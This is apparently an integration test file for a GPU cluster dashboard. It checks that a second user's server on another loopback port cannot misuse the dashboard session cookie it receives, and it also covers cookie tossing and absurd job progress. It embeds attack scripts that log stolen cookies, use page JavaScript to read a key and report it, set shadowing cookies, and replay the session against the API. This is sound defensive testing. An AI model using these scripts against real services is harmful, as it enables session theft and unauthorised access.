"""Issue 43, item 1, replayed in a real headless Chromium: root logs in to the dashboard
with a full token, then opens a page a second Unix user serves on another loopback
port (a Jupyter or TensorBoard on a shared GPU box). Browsers send a host's cookies
to all its ports (RFC 6265 §8.5), so that server does receive the dashboard's cookie:
what it received is a session id, not root's token, and with it the second user can
neither act nor read; the page key stays in the dashboard's own origin. And while one
of the second user's jobs reports absurd progress, root's page still shows the queue."""

from __future__ import annotations

import json
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.conftest import Cluster
from tests.integration.test_dashboard import _login, _text, _until, browser, dashboard
from tests.integration.test_http_api import _free_port, _token
from tests.integration.test_permissions import _as, _python, _user_env, as_login, other_user
from tests.polling import poll

pytestmark = pytest.mark.integration
__all__ = ["browser", "dashboard", "other_user"]  # the fixtures, used here by name

# The second user's server: logs what each request carried, serves a page whose script
# looks for the dashboard's page key and tries the daemon, and reports what it found.
ATTACKER = r"""
import http.server, json, sys
port, log, daemon = int(sys.argv[1]), sys.argv[2], sys.argv[3]
PAGE = '''<!doctype html><title>notebook</title><script>
const key = localStorage.getItem("podium-key");
fetch("%s/v1/jobs", {credentials: "include"}).then(r => String(r.status), () => "blocked")
  .then(s => fetch("/report?key=" + encodeURIComponent(String(key)) + "&daemon=" + s));
</script>''' % daemon
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, "a") as fh:
            fh.write(json.dumps({"path": self.path, "cookie": self.headers.get("Cookie")}) + "\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        if self.path == "/toss":  # cookie tossing: the dashboard's name, longer paths
            name = "podium_session_" + daemon.rsplit(":", 1)[1]
            for where in ("/v1", "/jobs", "/"):
                self.send_header("Set-Cookie", f"{name}=pds_{'A' * 43}; Path={where}")
        self.end_headers()
        self.wfile.write(PAGE.encode())
    def log_message(self, *args):
        pass
http.server.HTTPServer(("127.0.0.1", port), Handler).serve_forever()
"""

# What the second user then tries with the cookie it received, from its own process.
REPLAY = r"""
import json, sys, httpx
url, name, cookie = sys.argv[1:4]
jar = {"Cookie": f"{name}={cookie}"}
tries = {
    "read": httpx.get(f"{url}/v1/jobs", headers=jar),
    "read with a made-up key": httpx.get(
        f"{url}/v1/jobs", headers={**jar, "X-Podium-Key": "pdk_" + "A" * 43}),
    "submit": httpx.post(f"{url}/v1/jobs", headers=jar, json={"wrap": "id", "cwd": "/tmp"}),
    "as a bearer token": httpx.get(f"{url}/v1/ping", headers={"Authorization": f"Bearer {cookie}"}),
    "make a token": httpx.post(f"{url}/v1/tokens", headers=jar, json={}),
}
print(json.dumps({k: [r.status_code, r.text[:200]] for k, r in tries.items()}))
"""


@pytest.fixture
def attacker(
    dashboard: tuple[Cluster, str], other_user: str, tmp_path: Path
) -> Iterator[tuple[int, Path]]:
    c, url = dashboard
    port = _free_port()
    script, log = c.work / "notebook.py", c.work / f"notebook-{port}.log"
    script.write_text(ATTACKER)
    script.chmod(0o644)
    server = subprocess.Popen(
        [_python[0], str(script), str(port), str(log), url],
        env=_user_env(c, other_user), cwd="/", **as_login(other_user),
    )  # fmt: skip
    try:
        poll(  # until it listens
            lambda: socket.create_connection(("127.0.0.1", port), timeout=1).close(),
            lambda _: True, "the page's server to listen", 10, retry_on=(OSError,),
        )  # fmt: skip
        yield port, log
    finally:
        server.terminate()
        server.wait(timeout=10)


def _entries(log: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []


def test_a_page_on_another_port_gets_no_token_and_cannot_act(
    dashboard: tuple[Cluster, str], attacker: tuple[int, Path], browser: Any, other_user: str
) -> None:
    c, url = dashboard
    port, log = attacker
    mine = c.submit("--gpus=1", "-J", "roots-secret-job", "--wrap", "sleep 300")
    c.wait(mine, {"RUNNING"})
    full = _token(c)  # a full token of root's, not even a read-only one
    _login(browser, url, full)
    _until(lambda: f"job {mine} root" in _text(browser, "#gpus"))  # the session works
    browser.get(f"http://127.0.0.1:{port}/")  # the second user's "notebook"
    report = _until(lambda: next(e for e in _entries(log) if e["path"].startswith("/report")))
    first = next(e for e in _entries(log) if e["path"] == "/")
    cookie_name = f"podium_session_{url.rsplit(':', 1)[1]}"
    received = dict(p.strip().split("=", 1) for p in (first["cookie"] or "").split(";") if p)
    assert cookie_name in received  # RFC 6265: cookies do not isolate ports
    stolen = received[cookie_name]
    assert stolen.startswith("pds_") and "pdm_" not in json.dumps(_entries(log))
    assert full.split("_", 2)[2] not in json.dumps(_entries(log))  # never the token's secret
    assert "key=null" in report["path"]  # the page key is the dashboard origin's alone
    assert "daemon=blocked" in report["path"]  # and the daemon's answers are not its to read
    code = c.work / "replay.py"
    code.write_text(REPLAY)
    replay = subprocess.run(
        [_python[0], str(code), url, cookie_name, stolen], capture_output=True, text=True,
        env=_user_env(c, other_user), cwd="/", timeout=60, **as_login(other_user),
    )  # fmt: skip
    assert replay.returncode == 0, replay.stderr
    tries = json.loads(replay.stdout)
    # without its page key the session opens nothing
    assert {k: v[0] for k, v in tries.items()} == {
        "read": 401, "read with a made-up key": 401, "submit": 401,
        "as a bearer token": 401, "make a token": 401,
    }, tries  # fmt: skip
    assert "roots-secret-job" not in replay.stdout
    with c.api() as api:  # nothing was submitted with it
        assert all(j["user"] == "root" for j in api.get("/v1/jobs").json()["jobs"])
    c.cli("cancel", str(mine), check=True)


def test_a_cookie_tossed_from_another_port_leaves_the_dashboard_usable(
    dashboard: tuple[Cluster, str], attacker: tuple[int, Path], browser: Any
) -> None:
    """Issue 60, item 3: the second user's server sets the dashboard's cookie name for
    this host with Path=/v1, /jobs and /: the browser then sends its junk first. The
    dashboard looks for its session in every value, so after (at worst) logging in
    again, its pages and their API reads work."""
    c, url = dashboard
    port, log = attacker
    mine = c.submit("--gpus=1", "-J", "tossed", "--wrap", "sleep 300")
    c.wait(mine, {"RUNNING"})
    _login(browser, url, _token(c))
    _until(lambda: f"job {mine} root" in _text(browser, "#gpus"))
    browser.get(f"http://127.0.0.1:{port}/toss")
    _until(lambda: any(e["path"] == "/toss" for e in _entries(log)))
    browser.get(url + "/")
    time.sleep(0.5)  # a redirect to /login, if the Path=/ one replaced the session
    if browser.current_url.endswith("/login"):
        _login(browser, url, _token(c))
    _until(lambda: f"job {mine} root" in _text(browser, "#gpus"))  # its reads, under /v1
    browser.get(f"{url}/jobs/{mine}")
    _until(lambda: "tossed" in _text(browser, "#job"))
    c.cli("cancel", str(mine), check=True)


def test_absurd_progress_leaves_the_page_working(
    dashboard: tuple[Cluster, str], browser: Any, other_user: str
) -> None:
    """While a second user's job with no time limit reports 0 then 1e-290 of 1e15, the
    queue of root's page still loads (it stayed on "loading" for every user)."""
    c, url = dashboard
    done = _as(c, other_user, "submit", "--parsable", "--gpus=4", "--wrap", "sleep 300")
    assert done.returncode == 0, done.stderr
    theirs = int(done.stdout)
    c.wait(theirs, {"RUNNING"})
    waiting = c.submit("--gpus=1", "-t", "5", "-J", "behind", "--wrap", "true")
    for units in ("0", "1e-290"):
        said = _as(c, other_user, "progress", units, "--of", "1e15", "--job", str(theirs))
        assert said.returncode == 0, said.stderr
        time.sleep(1.1)
    _login(browser, url, _token(c, "--read-only"))
    row = f'tr[data-job="{waiting}"]'
    _until(lambda: "no time limit" in _text(browser, f"{row} .blockers"))
    c.cli("cancel", str(waiting), check=True)
    assert _as(c, other_user, "cancel", str(theirs)).returncode == 0
